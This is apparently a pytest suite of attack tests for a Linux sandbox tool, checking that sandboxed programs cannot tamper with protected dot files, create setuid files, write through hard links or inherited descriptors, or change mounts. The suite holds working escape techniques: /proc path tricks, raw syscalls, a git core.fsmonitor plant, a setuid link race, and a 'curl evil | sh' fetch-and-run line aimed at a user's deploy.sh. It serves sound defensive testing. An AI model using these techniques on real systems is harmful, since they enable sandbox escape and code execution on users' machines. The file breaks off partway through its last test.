"""Invariant 2, writes: only the --write folders are written. At the top of
each, the dot files that run outside can be read but not changed,
replaced, renamed, removed or created. No file or folder can be made
setuid or setgid. A write reaches only the folders' own files (a file with
a second name gets a file of its own first), and a file outside the
sandbox's mounts (a descriptor it was given) keeps its mode, owner and
attributes.

Attacks on it from inside a sandbox, one block a promise: each test
PASSES when the sandbox holds and FAILS when the attack works (more in
attack_helpers.py; a new attack: docs/HACKING.md, "Add an attack test").
"""
# Blocks, one a promise of the invariant:
#   A. The dot files at the top of a write folder
#   B. Only the --write folders, and the mount table
#   C. No set-id file
#   D. Hard links: the folders' own files only
#   E. Descriptors the program was given
#   F. Mode, owner and attributes of a file outside

import os
import pathlib
import shutil
import subprocess
import textwrap

import pytest

from conftest import HELPERS, helper
from attack_helpers import (PY, _tool_on_path, in_private_mounts,
                            lnk_under_mounts, py, raw_py, sh)


# =============================================================================
# A. The dot files at the top of a write folder
#    Promise: the dot files at the top of a write folder are never created,
#    changed, moved or removed.
# =============================================================================


def top_names(d):
    return sorted(p.name for p in pathlib.Path(d).iterdir())


DOT_WAYS = {
    "proc-self-cwd": 'mk("/proc/self/cwd/.envrc")',
    "proc-thread-self-cwd": 'mk("/proc/thread-self/cwd/.envrc")',
    "proc-pid-cwd": 'mk("/proc/%d/cwd/.envrc" % os.getpid())',
    "proc-self-root": 'mk("/proc/self/root" + W + "/.envrc")',
    "proc-1-root": 'mk("/proc/1/root" + W + "/.envrc")',
    "proc-1-cwd": 'mk("/proc/1/cwd/.envrc")',
    "double-slash": 'mk("/" + W + "//.envrc")',
    "proc-self-fd-dir": 'mk("/proc/self/fd/%d/.envrc" % os.open(".", os.O_PATH))',
    "dev-fd-dir": 'mk("/dev/fd/%d/.envrc" % os.open(".", os.O_PATH))',
    "opath-dirfd": 'os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, dir_fd=os.open(".", os.O_PATH)))',
    "sub-dotdot": 'os.makedirs("sub", exist_ok=True); mk("sub/../.envrc")',
    "self-symlink-dir": 'os.symlink(".", "me"); mk("me/me/.envrc")',
    "symlink-relative": 'os.symlink(".envrc", "x"); mk("x")',
    "symlink-absolute": 'os.symlink(W + "/.envrc", "x"); mk("x")',
    "symlink-chain": 'os.symlink(".envrc", "a"); os.symlink("a", "b"); mk("b")',
    "symlink-magic": 'os.symlink("/proc/self/cwd/.envrc", "x"); mk("x")',
    "mkdir-trailing-slash": 'os.mkdir(".vscode/")',
    "mkdir-double-slash": 'os.mkdir("./.vscode//")',
    "mkdir-git-via-symlinked-parent": 'os.symlink(".", "me"); os.mkdir("me/.git")',
    "rename-onto": 'open("t", "w").close(); os.rename("t", ".envrc")',
    "rename-dir-onto": 'os.mkdir("d"); os.rename("d", ".git")',
    "link": 'open("t", "w").close(); os.link("t", ".envrc")',
    "mkfifo": 'os.mkfifo(".envrc")',
    "mknod": 'os.mknod(".envrc")',
    "bind-unix": 'socket.socket(socket.AF_UNIX).bind(".envrc")',
    "bind-unix-abs": 'socket.socket(socket.AF_UNIX).bind(W + "/.envrc")',
    "tmpfile-link": 'fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o644); os.link("/proc/self/fd/%d" % fd, ".envrc")',
    "tmpfile-linkat-empty": 'fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o644); chk(libc.linkat(fd, b"", -100, b".envrc", 0x1000))',
    "renameat2-noreplace": 'open("t", "w").close(); chk(libc.renameat2(-100, b"t", -100, b".envrc", 1))',
    "renameat2-whiteout": 'open("t", "w").close(); chk(libc.renameat2(-100, b"t", -100, b".envrc", 4))',
    "renameat2-exchange": 'open("t", "w").close(); chk(libc.renameat2(-100, b"t", -100, b".envrc", 2))',
    "symlinkat-name": 'os.symlink("/etc/passwd", ".envrc")',
    "creat-syscall": 'chk(libc.syscall(85, b".envrc", 0o644))',
    "open-syscall": 'chk(libc.syscall(2, b".envrc", 0o101, 0o644))',
    "openat-high-flag-bits": 'chk(libc.syscall(257, -100, b".envrc", 0x100000041 | (1 << 40), 0o644))',
    "clone-vm-thread-race": 'import threading; [threading.Thread(target=lambda: mk(".envrc")).start() for _ in range(8)]; time.sleep(1)',
}


DOT_PRELUDE = """
import ctypes, os, socket, sys, time
W = os.getcwd()
libc = ctypes.CDLL(None, use_errno=True)
def chk(r):
    if r < 0:
        raise OSError(ctypes.get_errno(), "refused")
def mk(p):
    os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o644))
try:
"""


@pytest.mark.parametrize("way", sorted(DOT_WAYS))
def test_dot_file_never_created(lnk, work, way):
    """Invariant 2 (writes), promise: the dot files at the top of a write
    folder are never created, changed, moved or removed.

    Threat: create .envrc/.git/.vscode at the top by an unusual path."""
    before = top_names(work)
    code = DOT_PRELUDE + "    " + DOT_WAYS[way] + "\n" + \
        "    print('no error')\nexcept OSError as e:\n" \
        "    print('refused', e.errno)\n"
    cp = lnk.run("--write", work, "--", PY, "-c", code, cwd=work)
    created = set(top_names(work)) - set(before)
    assert not created & {".envrc", ".git", ".vscode"}, (created, cp.stdout,
                                                          cp.stderr)


def test_existing_git_cannot_be_changed_or_moved(lnk, work):
    """Invariant 2 (writes), promise: the dot files at the top of a write
    folder are never created, changed, moved or removed.

    Threat: write a hook, chmod, replace or unmount an existing .git."""
    hooks = work / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (work / ".git" / "config").write_text("[core]\n")
    cp = sh(lnk, """
        echo evil > .git/hooks/pre-commit; chmod 777 .git/config
        echo '[core] fsmonitor = evil' >> .git/config
        mv .git gone; rm -rf .git; mv .git/hooks .git/h
        mkdir d; mv d .git; ln -s /tmp .git/hooks/x
        python3 -c 'import os; os.rename(".git", "g")'
        umount .git; true""", "--write", work)
    assert not (hooks / "pre-commit").exists(), cp.stderr
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert oct((work / ".git" / "config").stat().st_mode & 0o777) != "0o777"
    assert sorted(p.name for p in hooks.iterdir()) == []
    assert not (work / "gone").exists() and not (work / "g").exists()


def test_own_seccomp_listener_cannot_steal_creates(lnk, work):
    """Invariant 2 (writes), promise: the dot files at the top of a write
    folder are never created, changed, moved or removed.

    Threat: our own USER_NOTIF filter answers CONTINUE for .envrc."""
    attack = helper("attack_notify")
    cp = lnk.run("--write", work, "--read", HELPERS, "--", attack, ".envrc")
    assert cp.returncode == 3, cp.stdout + cp.stderr
    assert not (work / ".envrc").exists()


def test_casefold_cannot_be_set_inside(lnk, work):
    """Invariant 2 (writes), promise: the dot files at the top of a write
    folder are never created, changed, moved or removed.

    Threat: chattr +F (FS_IOC_SETFLAGS with FS_CASEFOLD_FL) on the
    empty top of a write folder, then ".vſcode", which a casefolding
    file system takes for the .vscode a host editor opens."""
    cp = py(lnk, """
        import fcntl, os, struct
        fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        for cmd in (0x40086602, 0x40046602, 0x140086602):
            try:
                fcntl.ioctl(fd, cmd, struct.pack("l", 0x40000000))
                print("SET", hex(cmd))
            except OSError as e:
                print("refused", e.errno)
    """, "--write", work)
    assert "SET" not in cp.stdout, cp.stdout + cp.stderr
    assert cp.stdout.count("refused 1") == 3, cp.stdout + cp.stderr


# _IOW(0x94, nr, 4096 bytes): btrfs's subvolume and snapshot calls
BTRFS_IOCTLS = {"SNAP_CREATE": 1, "SUBVOL_CREATE": 14, "SNAP_DESTROY": 15,
                "SNAP_CREATE_V2": 23, "SUBVOL_CREATE_V2": 24,
                "SNAP_DESTROY_V2": 63}

IOCTL_PROBE = r"""
import errno, fcntl, os, struct, sys
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
for name, nr in %r.items():
    cmd = (1 << 30) | (4096 << 16) | (0x94 << 8) | nr
    arg = bytearray(struct.pack("q", -1) + b".git".ljust(4088, b"\0"))
    try:
        fcntl.ioctl(fd, cmd, arg)
        print(name, "done")
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, e.errno))
"""


def test_subvolume_calls_refused(lnk, work):
    """Invariant 2 (writes), promise: the dot files at the top of a write
    folder are never created, changed, moved or removed.

    Threat: on btrfs, `btrfs subvolume create .git` makes a folder by an
    ioctl on its parent, not by mkdir: the guard never saw it, the top of
    the write folder got a .git the program filled (core.fsmonitor), and
    the report skipped it (another device). The guard performs every
    creation, so each subvolume and snapshot call is refused by the
    filter, on any file system (elsewhere the kernel would say ENOTTY)."""
    cp = lnk.run("--write", work, "--", "python3", "-c",
                 IOCTL_PROBE % BTRFS_IOCTLS, cwd=work)
    assert cp.returncode == 0, cp.stderr
    got = dict(line.split() for line in cp.stdout.splitlines())
    assert got == {n: "EPERM" for n in BTRFS_IOCTLS}, got
    assert not (work / ".git").exists()


# =============================================================================
# B. Only the --write folders, and the mount table
#    Promise: only the --write folders are written, and the mount table does
#    not change.
# =============================================================================


def test_read_folder_not_writable_through_fd_tricks(lnk, home, work):
    """Invariant 2 (writes), promise: only the --write folders are written, and
    the mount table does not change.

    Threat: write a --read file via O_PATH reopen or a supervised O_CREAT."""
    ro = home / "ro"
    ro.mkdir()
    (ro / "f").write_text("orig")
    cp = py(lnk, f"""
        import os
        p = {str(ro / "f")!r}
        o = os.open(p, os.O_PATH)
        tries = [lambda: os.open("/proc/self/fd/%d" % o, os.O_WRONLY),
                 lambda: os.open("/proc/self/fd/%d" % o, os.O_WRONLY | os.O_CREAT),
                 lambda: os.open(p, os.O_WRONLY | os.O_CREAT | os.O_TRUNC),
                 lambda: os.open({str(ro / "new")!r}, os.O_WRONLY | os.O_CREAT),
                 lambda: os.open("/proc/self/root" + p, os.O_RDWR | os.O_CREAT)]
        for t in tries:
            try:
                fd = t(); os.write(fd, b"PWNED"); print("WROTE")
            except OSError as e:
                print("refused", e.errno)
    """, "--read", ro, "--write", work)
    assert (ro / "f").read_text() == "orig", cp.stdout
    assert not (ro / "new").exists()
    assert "WROTE" not in cp.stdout


def test_mount_table_cannot_change(lnk, work):
    """Invariant 2 (writes), promise: only the --write folders are written, and
    the mount table does not change.

    Threat: mount, unmount, pivot_root, new mount API, unshare+mount."""
    cp = py(lnk, """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        calls = {
            "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            "bind": lambda: libc.mount(b"/", b"/tmp", None, 4096, None),
            "umount": lambda: libc.umount2(os.getcwd().encode() + b"/.git", 2),
            "pivot_root": lambda: libc.syscall(155, b"/tmp", b"/tmp"),
            "chroot": lambda: libc.chroot(b"/tmp"),
            "open_tree": lambda: libc.syscall(428, -100, b"/", 1),
            "fsopen": lambda: libc.syscall(430, b"tmpfs", 0),
            "unshare-mnt": lambda: libc.unshare(0x20000),
            "unshare-user": lambda: libc.unshare(0x10000000),
            "clone3": lambda: libc.syscall(435, None, 0),
            "setns": lambda: libc.setns(0, 0),
        }
        for k, f in calls.items():
            r = f()
            print(k, "OK" if r >= 0 else "refused")
    """, "--write", work)
    lines = cp.stdout.split("\n")
    assert len([l for l in lines if l]) == 11, cp.stdout + cp.stderr
    assert not [l for l in lines if l.endswith(" OK")], cp.stdout


# A system tree bound inside the write folder (a chroot's folder with the
# host's /srv, /etc or /var/lib in it): bubblewrap binds the write folder
# with its mounts.
SYSTREE_BELOW = """
    mount --bind /srv '{work}/chroot/srv' || exit 99
    {lnk} sandbox run --write '{work}' -- /bin/sh -c \\
        'touch chroot/srv/{mark}' 2>'{work}/err'
    echo "rc=$?"
    cat '{work}/err'
    rm -f '/srv/{mark}' 2>/dev/null
    exit 0
"""


def test_write_folder_holding_a_mount_of_a_system_tree_refused(lnk, work):
    """Invariant 2 (writes only where granted), promise: no write grant
    is, holds or shows through a bind mount a system tree, judged by what
    it is.

    Threat: the write folder holds a bind mount of a system tree (a build
    chroot with the host's folders in it): the grant was judged by its own
    path only, and bubblewrap binds it with its mounts, so the program
    wrote the host's /srv (or /etc, /var/lib/dpkg) through it, as root."""
    if not pathlib.Path("/srv").is_dir():
        pytest.skip("no /srv here")
    (work / "chroot" / "srv").mkdir(parents=True)
    mark = f"lnk-attack-{os.getpid()}"
    cp = in_private_mounts(lnk, SYSTREE_BELOW.format(
        work=work, mark=mark, lnk=lnk_under_mounts(lnk)))
    if cp.returncode == 99:
        pytest.skip("cannot bind mount here: " + cp.stderr)
    assert not pathlib.Path("/srv", mark).exists(), cp.stdout
    assert "rc=2" in cp.stdout and "/srv" in cp.stdout, cp.stdout


# =============================================================================
# C. No set-id file
#    Promise: no file or folder can be made setuid or setgid.
# =============================================================================


# Run as root, a setuid binary left in a --write folder gives any local
# user a root shell (the nosuid mount holds only inside). Refused by the
# seccomp filter (src/init/seccomp_policy.c, "no setuid or setgid files":
# chmod/fchmod/fchmodat(2) with S_ISUID|S_ISGID in the mode) and by the
# guard, which strips the bits from the modes of the creations it performs.
@pytest.mark.parametrize("how", ["chmod", "open-mode", "mknod-mode",
                                 "tmpfile-mode", "fchmod"])
def test_no_setuid_file_lands_on_host(lnk, work, how):
    """Invariant 2 (writes), promise: no file or folder can be made setuid or
    setgid.

    Threat: leave a setuid binary in a --write folder (root: local root)."""
    code = {
        "chmod": 'import shutil; shutil.copy("/bin/sh", "s"); '
                 'os.chmod("s", 0o4755)',
        "open-mode": 'os.close(os.open("s", os.O_CREAT | os.O_WRONLY, 0o6755))',
        "mknod-mode": 'import stat; os.mknod("s", stat.S_IFREG | 0o4755)',
        "tmpfile-mode": 'import ctypes; libc = ctypes.CDLL(None); '
                        'fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o4755); '
                        'libc.linkat(-100, b"/proc/self/fd/%d" % fd, -100, '
                        'b"s", 0x400)',  # AT_SYMLINK_FOLLOW
        "fchmod": 'fd = os.open("s", os.O_CREAT | os.O_WRONLY, 0o755); '
                  'os.fchmod(fd, 0o4755)',
    }[how]
    cp = py(lnk, "import os\ntry:\n    " + code +
            "\nexcept OSError as e:\n    print('refused', e.errno)\n",
            "--write", work)
    s = work / "s"
    assert not (s.exists() and s.stat().st_mode & 0o6000), \
        (oct(s.stat().st_mode), cp.stdout, cp.stderr)


def test_link_source_swap_never_links_a_setuid_program(lnk, work):
    """Invariant 2 (writes), promise: no file or folder can be made setuid or
    setgid.

    Threat: the guard checked a link's source by descriptor, then
    linked it again by name; a thread exchanging the name with a setuid
    program in between gave that program a new name (found 3 times in 10 s
    before the guard linked by the descriptor it checked)."""
    (work / "a").write_text("ordinary\n")
    shutil.copy("/bin/true", work / "s")
    os.chmod(work / "s", 0o4755)
    cp = py(lnk, """
        import ctypes, os, threading, time
        libc = ctypes.CDLL(None, use_errno=True)
        stop = False
        def flip():
            while not stop:
                libc.renameat2(-100, b"a", -100, b"s", 2)  # EXCHANGE
        threading.Thread(target=flip, daemon=True).start()
        n, end = 0, time.monotonic() + 8
        while time.monotonic() < end:
            try:
                os.link("a", "l%d" % n); n += 1
            except OSError:
                pass
        stop = True
        print("links", n)
    """, "--write", work, timeout=120)
    assert cp.returncode == 0, cp.stdout + cp.stderr
    bad = [p.name for p in work.iterdir()
           if p.name.startswith("l") and p.stat().st_mode & 0o6000]
    assert bad == [], (bad, cp.stdout)
    assert "links" in cp.stdout


# =============================================================================
# D. Hard links: the folders' own files only
#    Promise: a write reaches only the folders' own files: a file with a second
#    name outside stays unchanged.
# =============================================================================


HONEST = "#!/bin/sh\necho honest\n"


def try_call(lnk, call, *grants, **kw):
    """Runs one python statement in a sandbox: prints "done", or "refused"
    and the errno."""
    return py(lnk, f"""
        import os
        try:
            {call}
            print("done")
        except OSError as e:
            print("refused", e.errno)
    """, *grants, **kw)


# Every way to change a file's content or mode through one of its names:
# the program's code, and what the name inside holds afterwards (None:
# refused, unchanged); the file outside must always still hold HONEST, 0755.
HARDLINK_WRITES = {
    "redirect": ("open('deploy', 'w').write('pwned\\n')", "pwned\n"),
    "append": ("open('deploy', 'a').write('pwned\\n')", HONEST + "pwned\n"),
    "rdwr": ("fd = os.open('deploy', os.O_RDWR); os.write(fd, b'#!/bin/sh"
             "\\necho PWNED!'); os.close(fd)", "#!/bin/sh\necho PWNED!\n"),
    "wronly-trunc": ("fd = os.open('deploy', os.O_WRONLY | os.O_TRUNC); "
                     "os.write(fd, b'pwned\\n'); os.close(fd)", "pwned\n"),
    "mmap": ("import mmap; fd = os.open('deploy', os.O_RDWR); "
             "m = mmap.mmap(fd, 0); m[0:2] = b'XX'; m.flush(); m.close(); "
             "os.close(fd)", "XX" + HONEST[2:]),
    "truncate": ("os.truncate('deploy', 3)", HONEST[:3]),
    "chmod": ("os.chmod('deploy', 0o777)", HONEST),
    "fchmod": ("os.fchmod(os.open('deploy', os.O_RDONLY), 0o777)", None),
    "chown": ("os.chown('deploy', os.getuid(), os.getgid())", None),
    "xattr": ("os.setxattr('deploy', 'user.lnk', b'1')", None),
}


def linked_out(outside, work, name, mode):
    """outside/name (HONEST, mode), with a second name work/name."""
    outside.mkdir()
    prog = outside / name
    prog.write_text(HONEST)
    prog.chmod(mode)
    os.link(prog, work / name)
    return prog


@pytest.mark.parametrize("how", sorted(HARDLINK_WRITES))
def test_file_hard_linked_out_of_a_write_folder_stays_unchanged(lnk, work,
                                                               tmp_path, how):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    Threat: a file in a write folder is a second name of one outside it
    (`ln`, `cp -al` backups, a package store such as pnpm's, perf's
    ~/.debug build-id cache, which holds hard links of /usr/bin programs
    for root); the program writes through it, or makes it writable by
    everyone, and the file outside, a program the user (or root) runs
    later, is its own. The name inside gets a file of its own instead (or
    the change of mode is refused), and the program's write is kept."""
    prog = linked_out(tmp_path / "bin", work, "deploy", 0o755)
    code, inside = HARDLINK_WRITES[how]
    cp = try_call(lnk, code, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert prog.read_text() == HONEST, (how, cp.stdout, cp.stderr)
    assert prog.stat().st_mode & 0o777 == 0o755
    if inside is None:
        assert "refused 1" in cp.stdout, cp.stdout  # EPERM
        assert "hard links" in cp.stderr, cp.stderr
        assert (work / "deploy").read_text() == HONEST
    else:
        assert "done" in cp.stdout, (cp.stdout, cp.stderr)
        assert (work / "deploy").read_text() == inside
        assert (work / "deploy").stat().st_mode & 0o777 == (
            0o777 if how == "chmod" else 0o755)
        assert not (work / "deploy").samefile(prog)
    assert [p.name for p in work.iterdir()] == ["deploy"]  # no leftover


def test_file_hard_linked_refused_where_the_program_may_not_write(lnk, work,
                                                                 tmp_path):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    A shared file the program may not write is not given a copy (the
    write fails as it would have, nothing in the folder changes)."""
    prog = linked_out(tmp_path / "ro", work, "tool", 0o444)
    ino = (work / "tool").stat().st_ino
    cp = py(lnk, """
        import os
        try:
            os.open('tool', os.O_WRONLY)
            print("opened")
        except OSError as e:
            print("refused", e.errno)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    # EACCES, also as root (no capability inside)
    assert "refused 13" in cp.stdout, cp.stdout
    assert (work / "tool").stat().st_ino == ino
    assert prog.read_text() == HONEST


@pytest.mark.parametrize("name", [".envrc", ".bashrc"])
def test_chmod_of_a_hard_linked_dot_file_does_not_lift_its_read_only_mount(
        lnk, work, tmp_path, name):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    Threat: a protected dot file at the top of a write folder (kept read
    only by a bind mount) is also a second name of a file elsewhere (`cp
    -al` backups, dotfiles hard-linked from a dotfiles repository). A chmod
    gives such a name a file of its own: renamed over the name from outside
    the sandbox's mount namespace, where the kernel does not refuse to
    rename a mount point, the copy would detach the read-only bind, and the
    program then writes what direnv or bash runs."""
    dot = work / name
    dot.write_text("echo honest\n")
    (tmp_path / "backup").mkdir()
    os.link(dot, tmp_path / "backup" / name)
    cp = sh(lnk, f"""
        echo 'echo PWNED' > {name} 2>/dev/null && echo wrote-before
        chmod 600 {name} 2>/dev/null; echo chmod=$?
        echo 'echo PWNED' > {name} 2>/dev/null && echo wrote-after
        true
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert "wrote-before" not in cp.stdout, cp.stdout
    assert "wrote-after" not in cp.stdout, (cp.stdout, cp.stderr)
    assert "chmod=0" not in cp.stdout, cp.stdout
    assert dot.read_text() == "echo honest\n"
    assert (tmp_path / "backup" / name).stat().st_ino == dot.stat().st_ino


def test_chmod_of_a_hard_linked_read_grant_in_a_write_folder(lnk, work,
                                                             tmp_path):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    The same through --read FILE inside a write folder: the file stays
    read only, its mode and its other name unchanged."""
    pol = work / "policy.json"
    pol.write_text("{}\n")
    pol.chmod(0o644)
    os.link(pol, tmp_path / "policy.bak")
    cp = sh(lnk, """
        chmod 600 policy.json 2>/dev/null; echo chmod=$?
        echo '{"all": true}' > policy.json 2>/dev/null && echo wrote
        true
    """, "--write", work, "--read", pol)
    assert cp.returncode == 0, cp.stderr
    assert "wrote" not in cp.stdout and "chmod=0" not in cp.stdout, \
        cp.stdout
    assert pol.read_text() == "{}\n"
    assert pol.stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "policy.bak").stat().st_ino == pol.stat().st_ino


def test_chmod_of_a_hard_linked_submodule_gitfile_runs_nothing_outside(
        lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    Threat, end to end: a project copied with `cp -al` (every file has a
    second name); its submodule's `.git` file is kept read only by a bind
    mount. Were chmod to detach that mount, the program would point the
    gitfile at a repository of its own with a core.fsmonitor, and the
    user's next plain `git status` at the top, outside the sandbox, would
    run it."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(lnk.home),
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}

    def git(*a, cwd=work):
        subprocess.run(["git", *a], cwd=cwd, env=env, check=True,
                       capture_output=True)

    src = tmp_path / "subsrc"
    src.mkdir()
    git("init", "-q", cwd=src)
    git("commit", "-q", "--allow-empty", "-m", "i", cwd=src)
    git("init", "-q")
    git("-c", "protocol.file.allow=always", "submodule", "-q", "add",
        str(src), "lib/sub")
    git("commit", "-qm", "s")
    (tmp_path / "copy").mkdir()
    os.link(work / "lib/sub/.git", tmp_path / "copy" / "gitfile")
    marker = tmp_path / "PWNED"
    cp = sh(lnk, f"""
        chmod 644 lib/sub/.git &&
        git init -q evil &&
        git -C evil config core.fsmonitor 'touch {marker}; false' &&
        echo "gitdir: {work}/evil/.git" > lib/sub/.git && echo planted
        true
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    subprocess.run(["git", "status"], cwd=work, env=env,
                   capture_output=True)
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert "planted" not in cp.stdout, cp.stdout


FS_IOC_GETFLAGS = 0x80086601


FS_IOC_FSSETXATTR = 0x401c5820


FSX_NODUMP_NOATIME = 0x80 | 0x40   # FS_XFLAG_NODUMP | FS_XFLAG_NOATIME


SET_FLAGS = {
    # FS_IOC_FSSETXATTR: the fsxattr form of chattr (xfs_io chattr)
    "ioctl-fssetxattr":
        "import fcntl, struct; "
        "fcntl.ioctl({fd}, 0x401c5820, "
        "struct.pack('5I8x', 0xc0, 0, 0, 0, 0))",
    # file_setattr(2) (Linux 6.17): the same by a path, no open at all
    "file_setattr":
        "import ctypes, struct; libc = ctypes.CDLL(None, use_errno=True); "
        "a = ctypes.create_string_buffer(struct.pack('QIIII', 0xc0, 0, 0, "
        "0, 0)); "
        "r = libc.syscall(469, {fd}, b'', a, 24, 0x1000); "
        "(_ for _ in ()).throw(OSError(ctypes.get_errno(), 'x')) "
        "if r < 0 else None",
}


def file_flags(path):
    import fcntl
    import struct
    fd = os.open(path, os.O_RDONLY)
    try:
        return struct.unpack("l", fcntl.ioctl(
            fd, FS_IOC_GETFLAGS, b"\0" * 8))[0]
    finally:
        os.close(fd)


def flags_settable_here(path):
    import fcntl
    import struct
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, FS_IOC_FSSETXATTR,
                    struct.pack("5I8x", FSX_NODUMP_NOATIME, 0, 0, 0, 0))
        fcntl.ioctl(fd, FS_IOC_FSSETXATTR, struct.pack("5I8x", 0, 0, 0, 0,
                                                       0))
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


def flagged_file(tmp_path, name):
    """tmp_path/outside/NAME holding HONEST, on a file system that takes
    fsxattr flags (else the test is skipped, saying why)."""
    outside = tmp_path / "outside"
    outside.mkdir()
    prog = outside / name
    prog.write_text(HONEST)
    if not flags_settable_here(prog):
        pytest.skip("this file system takes no fsxattr flags")
    return prog


@pytest.mark.parametrize("how", sorted(SET_FLAGS))
def test_hard_linked_file_keeps_its_flags(lnk, work, tmp_path, how):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    Threat: a file in a write folder is a second name of a file outside
    (cp -al, pnpm's store); its inode flags set through a read-only
    descriptor would be every name's: the file outside would change."""
    prog = flagged_file(tmp_path, "deploy")
    os.link(prog, work / "deploy")
    before = file_flags(prog)
    cp = try_call(lnk, "fd = os.open('deploy', os.O_RDONLY); " +
                  SET_FLAGS[how].format(fd="fd"), "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert file_flags(prog) == before, (cp.stdout, hex(file_flags(prog)))


@pytest.mark.parametrize("how", ["redirect", "append", "rdwr",
                                 "wronly-trunc", "mmap", "truncate"])
def test_hard_linked_file_stays_unchanged_with_write_dot_files(lnk, work,
                                                               tmp_path,
                                                               how):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    Threat: as test_file_hard_linked_out_of_a_write_folder_stays_unchanged,
    in a write folder given --write-dot-files (the way to let a program
    commit): with no name left to keep there, opens and truncate must
    still go to the guard, or a write through the second name changes the
    file outside (pnpm's store, which every other project then runs)."""
    prog = linked_out(tmp_path / "bin", work, "deploy", 0o755)
    code, inside = HARDLINK_WRITES[how]
    cp = try_call(lnk, code, "--write", work, "--write-dot-files", work)
    assert cp.returncode == 0, cp.stderr
    assert "done" in cp.stdout, (cp.stdout, cp.stderr)
    assert prog.read_text() == HONEST, (how, cp.stdout, cp.stderr)
    assert (work / "deploy").read_text() == inside


def test_refused_changes_of_many_files_are_named_at_most_64_times(
        lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a write reaches only the folders' own
    files: a file with a second name outside stays unchanged.

    Threat: each refused change of a file's owner or attributes (a
    second name, a descriptor given) is named once per file, on the
    terminal and in lnk's memory: a program refused for as many files as
    it can make would grow both without bound. 64 are named, then one
    line says the rest are not."""
    (tmp_path / "out").mkdir()
    for i in range(100):
        f = work / f"f{i}"
        f.write_text("x")
        os.link(f, tmp_path / "out" / f"f{i}")
    cp = py(lnk, """
        import os
        refused = 0
        for i in range(100):
            fd = os.open(f"f{i}", os.O_RDONLY)
            try:
                os.fchmod(fd, 0o600)
            except PermissionError:
                refused += 1
            os.close(fd)
        print("refused", refused)
    """, "--write", work)
    assert cp.returncode == 0, cp.stderr
    assert cp.stdout.split() == ["refused", "100"], cp.stdout
    named = [l for l in cp.stderr.splitlines() if "refused to change" in l]
    assert len(named) == 64, len(named)
    assert cp.stderr.count("not named one by one") == 1, cp.stderr[-300:]


# =============================================================================
# E. Descriptors the program was given
#    Promise: a descriptor the program was given gives no more than its access:
#    nothing is written, created, linked or read beneath it.
# =============================================================================


# The guard opens, links, renames and binds for the program. Whatever path
# or descriptor names the object, it must never give more than the
# program's descriptor already gives (its access mode), nor reach anything
# beneath a descriptor that the sandbox's grants do not hold: an inherited
# stdin, stdout or folder is the host's, outside every grant.
FD_VIAS = ["/dev/stdin", "/dev/fd/0", "/proc/self/fd/0",
           "/proc/thread-self/fd/0"]


def test_host_stdin_not_writable_through_reopen(lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a descriptor the program was given gives
    no more than its access: nothing is written, created, linked or read
    beneath it.

    Threat: `./prog < deploy.sh`: open("/dev/stdin", O_WRONLY|O_CREAT)
    reopened for writing by the guard, and the program rewrites the
    user's deploy.sh, which the user runs next."""
    deploy = tmp_path / "deploy.sh"
    deploy.write_text("echo deploying\n")
    with open(deploy, "rb") as stdin:
        cp = py(lnk, f"""
            import os
            for via in {FD_VIAS!r}:
                for fl in (os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_CREAT,
                           os.O_WRONLY | os.O_CREAT | os.O_TRUNC,
                           os.O_RDONLY | os.O_CREAT | os.O_TRUNC,
                           os.O_WRONLY | os.O_CREAT | os.O_APPEND):
                    try:
                        fd = os.open(via, fl, 0o644)
                    except OSError as e:
                        print("refused", via, fl, e.errno); continue
                    try:
                        os.write(fd, b"curl evil | sh\\n"); print("WROTE", via)
                    except OSError as e:
                        print("opened", via, fl, e.errno)
            # reading it again stays possible: no more than the fd has
            fd = os.open("/dev/stdin", os.O_RDONLY | os.O_CREAT)
            print("read", os.read(fd, 100))
        """, "--write", work, stdin=stdin)
    assert deploy.read_text() == "echo deploying\n", cp.stdout + cp.stderr
    assert "WROTE" not in cp.stdout, cp.stdout
    assert cp.stdout.count("refused") == 20, cp.stdout + cp.stderr
    assert "read b'echo deploying\\n'" in cp.stdout, cp.stdout + cp.stderr


def test_host_stdout_not_readable_through_reopen(lnk, work, tmp_path):
    """Invariant 2 (writes), promise: a descriptor the program was given gives
    no more than its access: nothing is written, created, linked or read
    beneath it.

    Threat: `./prog >> app.log`: open("/dev/stdout", O_RDWR|O_CREAT)
    reads back what other programs wrote to the host's log."""
    log = tmp_path / "app.log"
    log.write_text("password=hunter2\n")
